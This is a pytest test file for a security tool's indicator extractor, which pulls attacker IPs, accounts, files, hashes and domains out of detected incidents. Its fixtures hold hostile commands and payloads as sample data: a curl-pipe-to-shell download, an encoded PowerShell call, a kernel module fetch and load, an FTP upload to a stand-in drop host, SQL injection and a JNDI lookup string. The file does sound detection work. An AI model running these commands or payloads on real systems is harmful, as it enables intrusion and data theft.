"""Indicators are what did something hostile, and nothing else."""

import pytest

from moewarden.graphs.episodes.fold import fold_episodes
from moewarden.graphs.report.indicators import indicators, most_telling, shared_parents

from ..stores import at, make_hit, make_store

TIME = at("2026-11-21 03:00:00")


@pytest.fixture
def find(tmp_path):
    """(type, value) of the indicators where every event of the signal is a cited line."""
    stores = []

    def run(events, *, level="high", traits=(), flagged=None, got_in=()):
        stores.append(make_store(tmp_path / str(len(stores)), [{"time": TIME, **event} for event in events]))
        hit = make_hit(flagged or list(range(1, len(events) + 1)), level=level, traits=list(traits))
        episodes = fold_episodes(stores[-1], [hit], {"events": []})
        judgements = {
            e["id"]: {
                "lines": [(event, "why", 1.0) for event in e["events"]],
                "sheet": {"failure_share": ["none" if any(event in got_in for event in e["events"]) else "all"]},
            }
            for e in episodes
        }
        found = indicators(stores[-1], episodes, judgements, {"s1": hit})
        return [(kind, value) for kind, value, _, _ in found]

    yield run
    for store in stores:
        store.close()


def test_the_source_of_an_attack(find):
    login = {"action": "login", "outcome": "failure", "src_ip": "203.0.113.9", "user": "root", "host": "web-1"}
    assert find([login], traits=["brute_force"]) == [("ip", "203.0.113.9")]


def test_an_internal_source_too(find):
    login = {"action": "login", "outcome": "failure", "src_ip": "10.0.0.7", "user": "root", "host": "web-1"}
    assert find([login], traits=["brute_force"]) == [("ip", "10.0.0.7")]


@pytest.mark.parametrize("address", ["127.0.0.1", "::1", "0.0.0.0", "not an address"])
def test_what_is_nobodys_address_is_none(find, address):
    assert find([{"action": "login", "src_ip": address, "host": "web-1"}]) == []


def test_the_far_end_of_a_hostile_connection(find):
    connect = {"action": "network_connect", "src_ip": "10.0.0.7", "dst_ip": "203.0.113.9", "host": "pc-1"}
    assert ("ip", "203.0.113.9") in find([connect], traits=["c2_pattern"])
    assert ("ip", "10.0.0.7") not in find([connect], traits=["c2_pattern"])


@pytest.mark.parametrize("said", [{"Direction": "inbound"}, {"network.direction": "ingress"}, {"Initiated": "false"}])
def test_of_a_connection_that_came_in_the_far_end_is_who_came(find, said):
    connect = {
        "action": "network_connect",
        "src_ip": "203.0.113.9",
        "dst_ip": "10.0.0.7",
        "host": "pc-1",
        "fields": said,
    }
    found = find([connect], traits=["c2_pattern"])
    assert ("ip", "203.0.113.9") in found
    assert ("ip", "10.0.0.7") not in found


def test_an_account_made_in_the_incident(find):
    made = {"action": "account_create", "target": "eve", "host": "web-1", "product": "linux", "user": "root"}
    assert find([made]) == [("user", "eve")]


@pytest.mark.parametrize(
    ("address", "by", "is_listed"),
    [("203.0.113.9", "dana", True), ("10.0.0.8", "dana", False), ("203.0.113.9", "lena", False)],
    ids=["by who got in", "by the account's owner", "by another"],
)
def test_an_account_that_who_got_in_made_though_no_line_of_the_attack_says_so(find, address, by, is_listed):
    entry = {"action": "login", "outcome": "success", "src_ip": "203.0.113.9", "user": "dana", "host": "web-1"}
    made = {"action": "account_create", "user": by, "src_ip": address, "target": "support2", "host": "web-1"}
    assert (("user", "support2") in find([entry, made], traits=["success_after_failures"], flagged=[1])) is is_listed


def test_an_account_that_was_used_whoever_owns_it(find):
    act = {"action": "permission_grant", "product": "aws", "user": "inga", "src_ip": "203.0.113.9"}
    assert ("user", "inga") in find([act])


def test_an_account_that_was_entered_and_none_that_was_refused(find):
    login = {"action": "login", "src_ip": "203.0.113.9", "host": "web-1", "product": "linux"}
    tried = {**login, "user": "olaf", "outcome": "failure"}
    entered = {**login, "user": "inga", "outcome": "success"}
    assert find([tried, entered], traits=["success_after_failures"]) == [("ip", "203.0.113.9"), ("user", "inga")]


def test_whose_machine_calls_out_through_the_proxy_is_a_victim(find):
    call = {"action": "web_request", "src_ip": "10.0.0.7", "user": "lena", "outcome": "success", "host": "proxy-1"}
    assert ("user", "lena") not in find([{**call, "target": "http://evil.example/x"}], traits=["c2_pattern"])
    served = {**call, "src_ip": "203.0.113.9", "target": "/account"}
    assert ("user", "lena") in find([served], traits=["success_after_failures"])


def test_in_whose_session_a_program_ran_is_a_victim(find):
    run = {
        "action": "process_start",
        "process": "C:\\Windows\\x.exe",
        "host": "pc-1",
        "product": "windows",
        "user": "lena",
    }
    assert not [value for kind, value in find([run]) if kind == "user"]


def test_what_was_left_behind(find):
    sha256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
    events = [
        {"action": "file_write", "target": "/var/www/x.php", "host": "web-1", "product": "linux"},
        {
            "action": "process_start",
            "process": "C:\\Users\\inga\\x.exe",
            "host": "pc-1",
            "product": "windows",
            "fields": {"Hashes": f"SHA256={sha256}"},
        },
        {"action": "process_start", "process": "C:\\Windows\\System32\\cmd.exe", "host": "pc-1", "product": "windows"},
    ]
    found = find(events, traits=["persistence"])
    assert {("file", "/var/www/x.php"), ("file", "C:\\Users\\inga\\x.exe"), ("hash", sha256)} <= set(found)
    assert not any("cmd.exe" in value for _, value in found)


def test_weak_signals_leave_no_files(find):
    write = {"action": "file_write", "target": "/var/www/x.php", "host": "web-1", "product": "linux"}
    assert find([write], level="low") == []


def test_addresses_in_a_command_encoded_ones_too(find):
    encoded = "cwBlAHQAIAB4ACAAaAB0AHQAcAA6AC8ALwBlAHYAaQBsAC4AZQB4AGEAbQBwAGwAZQAvAHAA"  # set x http://evil.example/p
    run = {"action": "process_start", "host": "pc-1", "product": "windows", "process": "C:\\Windows\\x.exe"}
    assert ("url", "http://203.0.113.9/x.sh") in find([{"command": "curl http://203.0.113.9/x.sh | sh", **run}])
    assert ("domain", "evil.example") in find([{"command": f"powershell -enc {encoded}", **run}])


def test_names_of_a_tunnel_become_their_parent(find):
    queries = [
        {"action": "dns_query", "target": f"x{n}.t.evil.example.", "src_ip": "10.0.0.7", "host": "pc-1"}
        for n in range(5)
    ]
    assert find(queries, traits=["tunnel"]) == [("domain", "t.evil.example")]
    assert shared_parents(["a.b.example", "c.example"]) == {}


def test_there_are_not_too_many(find):
    logins = [{"action": "login", "src_ip": f"203.0.113.{n}", "host": "web-1"} for n in range(1, 60)]
    found = [(kind, value, "why", [1]) for kind, value in find(logins, traits=["spray"])]
    listed, notes = most_telling(found)
    assert (len(found), len(listed)) == (59, 20)
    assert notes == [
        "39 more indicators are not listed, those of the least telling episodes; each episode names its actor."
    ]
    assert most_telling(listed) == (listed, [])


def test_who_got_in_comes_before_who_was_refused_and_the_account_with_the_address(find):
    logins = [
        {"action": "login", "outcome": "failure", "src_ip": f"203.0.113.{n}", "user": "ann", "host": "web-1"}
        for n in range(1, 60)
    ]
    logins[41] |= {"outcome": "success"}
    found = [(kind, value, "why", [1]) for kind, value in find(logins, traits=["spray"], got_in=[42])]
    listed, _ = most_telling(found)
    assert found[:2] == [("ip", "203.0.113.42", "why", [1]), ("user", "ann", "why", [1])]
    assert ("user", "ann", "why", [1]) in listed


@pytest.mark.parametrize(
    "command",
    [
        "curl http://203.0.113.9/x -o /tmp/x # attack seen from 198.51.100.250, block it",
        "echo 198.51.100.250 http://innocent.example/ ; curl http://203.0.113.9/x",
        "curl -A 198.51.100.250 -e http://innocent.example/ http://203.0.113.9/x",
        "N=198.51.100.250 curl -H 'X-Forwarded-For: 198.51.100.250' http://203.0.113.9/x",
    ],
    ids=["a comment", "printed", "headers", "an assignment"],
)
def test_whom_a_command_only_names_is_innocent(find, command):
    found = find([{"action": "process_start", "host": "web-1", "product": "linux", "command": command}])
    values = {value for _, value in found}
    assert "http://203.0.113.9/x" in values
    assert not [value for value in values if "198.51.100.250" in value or "innocent" in value]


def test_whom_a_request_only_names_is_innocent(find):
    request = {"action": "web_request", "category": "webserver", "src_ip": "203.0.113.9", "outcome": "failure"}
    target = "/?id=1'+union+select+1&r=http://innocent.example/&s=198.51.100.250"
    agent = "${jndi:ldap://evil.example/a} 198.51.100.250 http://innocent.example/"
    values = {value for _, value in find([{**request, "target": target, "agent": agent}])}
    assert not [value for value in values if "198.51.100.250" in value or "innocent" in value]
    assert any("evil.example" in value for value in values)


def test_what_a_command_fetched_sent_and_loaded(find):
    lines = [
        "wget -q http://203.0.113.9:8000/helper.ko -O /opt/helper.ko",
        "insmod /opt/helper.ko",
        "curl -T /srv/a.tgz ftp://drop.example/in/",
    ]
    events = [
        {"action": "process_start", "product": "linux", "host": "web-1", "process": "/usr/bin/x", "command": line}
        for line in lines
    ]
    assert set(find(events)) >= {
        ("ip", "203.0.113.9"),
        ("url", "http://203.0.113.9:8000/helper.ko"),
        ("file", "/opt/helper.ko"),
        ("domain", "drop.example"),
    }


def test_what_a_command_packs_or_reads_is_no_indicator(find):
    line = "tar czf /srv/backup.tgz /srv/www"
    assert (
        find(
            [
                {
                    "action": "process_start",
                    "product": "linux",
                    "host": "web-1",
                    "process": "/usr/bin/tar",
                    "command": line,
                }
            ]
        )
        == []
    )


@pytest.mark.parametrize(
    ("program", "is_listed"),
    [
        (r"\Device\HarddiskVolume3\Windows\System32\ntdsutil.exe", False),
        (r"C:\Windows\System32\net.exe", False),
        (r"\Device\HarddiskVolume3\Windows\Temp\a.exe", True),
        ("/opt/.x/run", True),
    ],
    ids=["below the device", "below the drive", "where anybody writes", "beside the system"],
)
def test_the_systems_own_programs_are_none(find, program, is_listed):
    ran = {"action": "process_start", "host": "dc-1", "product": "windows", "process": program}
    assert (("file", program) in find([ran])) == is_listed


@pytest.mark.parametrize("command", ["nltest /dclist:house.example", "Get-ADUser -Domain house.example"])
def test_the_directory_that_is_asked_about_is_none(find, command):
    ran = {"action": "process_start", "host": "dc-1", "product": "windows", "command": command}
    assert ("domain", "house.example") not in find([ran])
    assert ("domain", "far.example") in find([{**ran, "command": f"curl far.example/x & {command}"}])


def test_an_account_that_was_only_tried_is_none(find):
    tried = {"action": "login", "category": "database", "user": "nina", "outcome": "failure"}
    assert find([tried, {**tried, "user": "dumper", "outcome": "success"}]) == [("user", "dumper")]
